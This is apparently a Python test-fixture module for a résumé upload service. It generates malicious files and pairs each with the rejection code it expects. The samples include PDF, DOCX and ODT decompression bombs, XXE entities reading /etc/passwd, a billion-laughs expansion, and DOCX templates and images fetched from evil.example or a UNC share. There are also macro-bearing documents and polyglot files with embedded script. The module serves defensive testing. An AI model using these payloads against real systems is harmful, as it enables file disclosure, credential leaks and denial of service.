"""Uploads that mean harm, each made when a test asks for it: bombs, mixtures, programs, files that fetch others."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import docx

TEXT = "Ruth Calloway\nruth@example.com\nExperience\nWelder, Harbor Steel Inc, 2019 - Present\n- Weld hulls\n"
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
ODT = "application/vnd.oasis.opendocument.text"
_NAMES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def pdf(stream: bytes, *, pages: int = 1, extra: tuple[bytes, ...] = (), rounds: int = 1) -> bytes:
    """A PDF that shows one content stream, compressed `rounds` times, on every page."""
    for _ in range(rounds):
        stream = zlib.compress(stream, 1)
    kids = b" ".join(b"%d 0 R" % number for number in range(5, 5 + pages))
    filters = b"/FlateDecode " * rounds
    page = b"<</Type/Page/MediaBox[0 0 595 842]/Parent 2 0 R/Contents 3 0 R/Resources<</Font<</F1 4 0 R>>>>>>"
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (pages, kids),
        b"<</Length %d/Filter[%s]>>stream\n%s\nendstream" % (len(stream), filters, stream),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *[page] * pages,
        *extra,
    ]
    body = b"%PDF-1.5\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % pair for pair in enumerate(objects, 1))
    return body + b"trailer<</Size %d/Root 1 0 R>>\n%%%%EOF\n" % (len(objects) + 1)


SHOWN = b"BT /F1 11 Tf 60 780 Td 14 TL " + b" ".join(b"(%s) Tj T*" % row.encode() for row in TEXT.split("\n")) + b" ET"


def packed(members: dict[str, bytes]) -> bytes:
    """A compressed archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, part in members.items():
            archive.writestr(name, part)
    return buffer.getvalue()


def word(changed: Callable[[str, bytes], bytes] = lambda _, part: part, **more: bytes) -> bytes:
    """A DOCX whose parts went through `changed`, with more parts added (`__` in a name stands for a slash)."""
    document = docx.Document()
    for row in TEXT.splitlines():
        document.add_paragraph(row)
    saved = io.BytesIO()
    document.save(saved)
    with zipfile.ZipFile(saved) as archive:
        parts = {name: changed(name, archive.read(name)) for name in archive.namelist()}
    return packed({**parts, **{name.replace("__", "/").replace("_", "."): part for name, part in more.items()}})


def related(kind: str, target: str) -> bytes:
    """A DOCX that asks a word processor to fetch `target`."""
    link = (
        f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()

    def change(name: str, part: bytes) -> bytes:
        return part.replace(b"</Relationships>", link) if name == "word/_rels/document.xml.rels" else part

    return word(change)


def opendocument(body: str, head: bytes = b"", **more: bytes) -> bytes:
    """An ODT with this body."""
    content = f"<office:document-content {_NAMES}><office:body><office:text>{body}</office:text></office:body>"
    parts = {"mimetype": ODT.encode(), "content.xml": head + content.encode() + b"</office:document-content>"}
    return packed({**parts, **{name.replace("__", "/").replace("_", "."): part for name, part in more.items()}})


def picture(width: int, height: int) -> bytes:
    """A white PNG of this size; its bytes are few, its dots are not."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compressobj(1)
    row = b"\x00" + b"\xff" * (width * 3)
    data = b"".join(rows.compress(row) for _ in range(height)) + rows.flush()
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def entities(name: str, part: bytes) -> bytes:
    """A body that names an entity of the outside."""
    return XXE + part.split(b"?>", 1)[1] if name == "word/document.xml" else part


_GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
_HIDDEN = b"<html><script>alert(1)</script></html>"
_LOCK = b"<</Filter/Standard/V 1/R 2/P -4/O<" + b"41" * 32 + b">/U<" + b"42" * 32 + b">>>"
# name -> how it is made, the status and code it is answered with
HOSTILE: dict[str, tuple[Callable[[], bytes], int, str]] = {
    "empty": (lambda: b"", 422, "RESUME_EMPTY"),
    "truncated.pdf": (lambda: pdf(SHOWN)[:250], 422, "RESUME_CORRUPT"),
    "truncated.docx": (lambda: word()[:4000], 422, "RESUME_CORRUPT"),
    "truncated.odt": (lambda: opendocument("<text:p>x</text:p>")[:-30], 422, "RESUME_CORRUPT"),
    "bomb.pdf": (lambda: pdf(b" " * 106_000_000), 413, "EXPANDS_TOO_LARGE"),
    "bomb_twice.pdf": (lambda: pdf(b" " * 106_000_000, rounds=2), 413, "EXPANDS_TOO_LARGE"),
    "bomb_objects.pdf": (
        lambda: pdf(SHOWN, extra=(_object_stream(b" " * 106_000_000),)), 413, "EXPANDS_TOO_LARGE",
    ),
    "bomb.docx": (lambda: word(word__media__x_png=bytes(106_000_000)), 413, "EXPANDS_TOO_LARGE"),
    "bomb.odt": (lambda: opendocument("", Pictures__x_png=bytes(106_000_000)), 413, "EXPANDS_TOO_LARGE"),
    "bomb_of_parts.docx": (
        lambda: packed({"word/document.xml": b"<x/>", **{f"word/{n}.xml": b"" for n in range(20_000)}}),
        413, "EXPANDS_TOO_LARGE",
    ),
    "pages.pdf": (lambda: pdf(SHOWN, pages=10_000), 413, "TOO_MANY_PAGES"),
    "letters.pdf": (
        lambda: pdf(b"BT /F1 1 Tf 9 800 Td 1 TL " + b"(%s) Tj T* " % (b"Weld" * 250) * 700 + b"ET"),
        413, "TOO_MUCH_TEXT",
    ),
    "line.txt": (lambda: b"Python, " * 500_000, 413, "TOO_MUCH_TEXT"),
    "line.md": (lambda: b"# CV\n" + b"*a_" * 1_000_000, 413, "TOO_MUCH_TEXT"),
    "nested.html": (lambda: b"<html>" + b"<div>" * 400_000, 413, "TOO_MUCH_TEXT"),
    "nested.json": (lambda: b"[" * 500_000, 422, "RESUME_CORRUPT"),
    "picture.png": (lambda: picture(9000, 7500), 413, "PICTURE_TOO_LARGE"),
    "pdf_and_zip.pdf": (lambda: pdf(SHOWN) + packed({"evil.js": b"x"}), 422, "RESUME_MIXED"),
    "zip_around_pdf.pdf": (lambda: _stored(pdf(SHOWN)), 422, "RESUME_MIXED"),
    "pdf_and_html.pdf": (
        lambda: pdf(SHOWN).replace(b"%PDF-1.5\n", b"%PDF-1.5\n%" + _HIDDEN + b"\n", 1), 422, "RESUME_MIXED",
    ),
    "html_after_pdf.pdf": (lambda: pdf(SHOWN) + _HIDDEN, 422, "RESUME_MIXED"),
    "gif_and_pdf.pdf": (lambda: _GIF + pdf(SHOWN), 422, "RESUME_MIXED"),
    "gif_and_docx.docx": (lambda: _GIF + word(), 422, "RESUME_MIXED"),
    "png_and_docx.png": (lambda: picture(8, 8) + word(), 422, "RESUME_MIXED"),
    "macros.docx": (lambda: word(word__vbaProject_bin=b"\xd0\xcf\x11\xe0"), 422, "RESUME_MACROS"),
    "macros.docm": (lambda: word(_made_for_macros), 422, "RESUME_MACROS"),
    "macros.odt": (lambda: opendocument("<text:p>x</text:p>", Basic__Standard__Module1_xml=b"<x/>"),
                   422, "RESUME_MACROS"),
    "entities.docx": (lambda: word(entities), 422, "RESUME_EXTERNAL"),
    "entities.odt": (lambda: opendocument("<text:p>&e;</text:p>", XXE), 422, "RESUME_EXTERNAL"),
    "entities.html": (lambda: XXE.replace(b"DOCTYPE x", b"DOCTYPE html") + b"<html>&e;</html>", 422, "RESUME_EXTERNAL"),
    "entities.xml": (lambda: XXE + b"<cv>&e;</cv>", 422, "RESUME_EXTERNAL"),
    "laughs.docx": (lambda: word(_laughing), 422, "RESUME_EXTERNAL"),
    "template.docx": (lambda: related("attachedTemplate", "https://evil.example/t.dotm"), 422, "RESUME_EXTERNAL"),
    "share.docx": (lambda: related("attachedTemplate", r"file:///\\evil.example\t.dotm"), 422, "RESUME_EXTERNAL"),
    "remote_picture.docx": (lambda: related("image", "http://evil.example/p.png"), 422, "RESUME_EXTERNAL"),
    "remote_picture.odt": (
        lambda: opendocument('<text:p>x<draw:image xlink:href="http://evil.example/p.png"/></text:p>'),
        422, "RESUME_EXTERNAL",
    ),
    "locked.pdf": (
        lambda: pdf(SHOWN, extra=(_LOCK,)).replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt 6 0 R/ID[<00><00>]"),
        422, "RESUME_ENCRYPTED",
    ),
    "locked.odt": (
        lambda: opendocument("", **{"META-INF__manifest_xml": b"<manifest><encryption-data/></manifest>"}),
        422, "RESUME_ENCRYPTED",
    ),
}  # fmt: skip


def _object_stream(content: bytes) -> bytes:
    data = zlib.compress(content, 1)
    return b"<</Type/ObjStm/N 1/First 4/Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(data), data)


def _stored(inner: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("a", inner)
    return buffer.getvalue()


def _made_for_macros(name: str, part: bytes) -> bytes:
    plain, macros = b"officedocument.wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
    return part.replace(plain, macros) if name == "[Content_Types].xml" else part


def _laughing(name: str, part: bytes) -> bytes:
    """The billion laughs: entities that name each other ten times, ten deep."""
    if name != "word/document.xml":
        return part
    rows = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{rows}]>'.encode() + part.split(b"?>", 1)[1]
